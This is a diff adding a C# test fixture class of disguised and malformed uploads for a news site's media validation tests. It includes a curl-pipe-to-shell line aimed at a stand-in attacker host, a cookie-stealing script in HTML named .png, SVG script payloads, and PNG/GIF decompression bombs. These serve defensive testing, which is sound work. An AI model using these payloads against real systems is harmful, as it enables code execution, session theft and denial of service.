@@ -1,0 +1,124 @@
+using System.Buffers.Binary;
+using System.IO.Compression;
+using System.IO.Hashing;
+using System.Text;
+
+namespace NewsSite.Tests.Media;
+
+/// <summary>Files that must never become media: other formats, disguises, damaged images and bombs.</summary>
+internal static class HostileFiles
+{
+    private static readonly byte[] PngSignature = [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A];
+
+    private static readonly Dictionary<string, Func<(string FileName, byte[] Content)>> Files = new()
+    {
+        ["svg"] = () => ("logo.svg", Svg),
+        ["svg named .jpg"] = () => ("logo.jpg", Svg),
+        ["html named .png"] = () => ("photo.png", Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>fetch('/admin?steal='+document.cookie)</script></body></html>")),
+        ["elf executable"] = () => ("photo.jpg", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[56]]),
+        ["windows executable"] = () => ("photo.gif", [(byte)'M', (byte)'Z', 0x90, 0, .. new byte[56], (byte)'P', (byte)'E', 0, 0]),
+        ["shell script"] = () => ("photo.webp", Encoding.ASCII.GetBytes("#!/bin/sh\ncurl http://attacker.invalid/x | sh\n")),
+        ["pdf"] = () => ("scan.jpg", Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")),
+        ["zip"] = () => ("photos.png", Zip()),
+        ["empty file"] = () => ("empty.jpg", []),
+        ["truncated jpeg"] = () => ("cut.jpg", Truncated(TestImages.Encoded(640, 480, TestImages.JpegEncoder))),
+        ["truncated png"] = () => ("cut.png", Truncated(TestImages.Encoded(640, 480, TestImages.PngEncoder))),
+        ["truncated gif"] = () => ("cut.gif", Truncated(TestImages.Encoded(640, 480, TestImages.GifEncoder))),
+        ["truncated webp"] = () => ("cut.webp", Truncated(TestImages.Encoded(640, 480, TestImages.WebpEncoder))),
+        ["jpeg signature then random bytes"] = () => ("photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. RandomBytes(20_000)]),
+        ["png declaring 50,000 x 50,000 pixels"] = () => ("bomb.png", PngBomb(50_000, 50_000)),
+        ["gif declaring 60,000 x 60,000 pixels"] = () => ("bomb.gif", GifBomb(60_000, 60_000)),
+        ["jpeg 13,000 pixels wide"] = () => ("panorama.jpg", TestImages.Encoded(13_000, 16, TestImages.JpegEncoder)),
+        ["animated webp"] = () => ("animation.webp", AnimatedWebp()),
+        ["gif with too many frames for its size"] = () => ("long.gif", TestImages.AnimatedGif(100, 100, 120)),
+        ["png over the size limit"] = () => ("huge.png", TestImages.NoisePng(600, 600)),
+    };
+
+    public static IEnumerable<string> Names => Files.Keys;
+
+    public static (string FileName, byte[] Content) Get(string name) => Files[name]();
+
+    private static byte[] Svg => Encoding.UTF8.GetBytes(
+        """<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)"><script>alert(1)</script></svg>""");
+
+    private static byte[] Truncated(byte[] image) => image[..(image.Length / 2)];
+
+    private static byte[] RandomBytes(int count)
+    {
+        var bytes = new byte[count];
+        new Random(20261129).NextBytes(bytes);
+        return bytes;
+    }
+
+    private static byte[] Zip()
+    {
+        using var output = new MemoryStream();
+        using (var archive = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
+        {
+            using var entry = new StreamWriter(archive.CreateEntry("photo.jpg").Open());
+            entry.Write("not really a photo");
+        }
+        return output.ToArray();
+    }
+
+    /// <summary>
+    /// A valid PNG signature and header declaring a picture of <paramref name="width"/> x <paramref name="height"/>
+    /// (10 GB of pixels at 4 bytes each), followed by a few bytes of compressed data: a decompression bomb.
+    /// </summary>
+    private static byte[] PngBomb(int width, int height)
+    {
+        var header = new byte[13];
+        BinaryPrimitives.WriteInt32BigEndian(header, width);
+        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
+        header[8] = 8; // bits per sample
+        header[9] = 6; // RGBA
+        return [.. PngSignature, .. PngChunk("IHDR", header), .. PngChunk("IDAT", Deflated(new byte[1024])), .. PngChunk("IEND", [])];
+    }
+
+    private static byte[] PngChunk(string type, byte[] data)
+    {
+        byte[] typeAndData = [.. Encoding.ASCII.GetBytes(type), .. data];
+        var length = new byte[4];
+        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
+        var crc = new byte[4];
+        BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32.HashToUInt32(typeAndData));
+        return [.. length, .. typeAndData, .. crc];
+    }
+
+    private static byte[] Deflated(byte[] data)
+    {
+        using var output = new MemoryStream();
+        using (var zlib = new ZLibStream(output, CompressionLevel.SmallestSize, leaveOpen: true))
+        {
+            zlib.Write(data);
+        }
+        return output.ToArray();
+    }
+
+    /// <summary>A GIF whose screen descriptor declares an enormous canvas, with one tiny frame and a trailer.</summary>
+    private static byte[] GifBomb(ushort width, ushort height)
+    {
+        var size = new byte[4];
+        BinaryPrimitives.WriteUInt16LittleEndian(size, width);
+        BinaryPrimitives.WriteUInt16LittleEndian(size.AsSpan(2), height);
+        byte[] frame = [0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00];
+        return [.. "GIF89a"u8, .. size, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, .. frame, 0x3B];
+    }
+
+    /// <summary>The chunks that mark a WebP file as an animation; ImageSharp 2.1 cannot decode those.</summary>
+    private static byte[] AnimatedWebp()
+    {
+        byte[] canvas = [0x02, 0, 0, 0, 9, 0, 0, 9, 0, 0]; // animation flag; 10 x 10
+        byte[] body = [.. "WEBP"u8, .. RiffChunk("VP8X", canvas), .. RiffChunk("ANIM", new byte[6]), .. RiffChunk("ANMF", new byte[40])];
+        var length = new byte[4];
+        BinaryPrimitives.WriteInt32LittleEndian(length, body.Length);
+        return [.. "RIFF"u8, .. length, .. body];
+    }
+
+    private static byte[] RiffChunk(string type, byte[] data)
+    {
+        var length = new byte[4];
+        BinaryPrimitives.WriteInt32LittleEndian(length, data.Length);
+        return [.. Encoding.ASCII.GetBytes(type), .. length, .. data];
+    }
+}
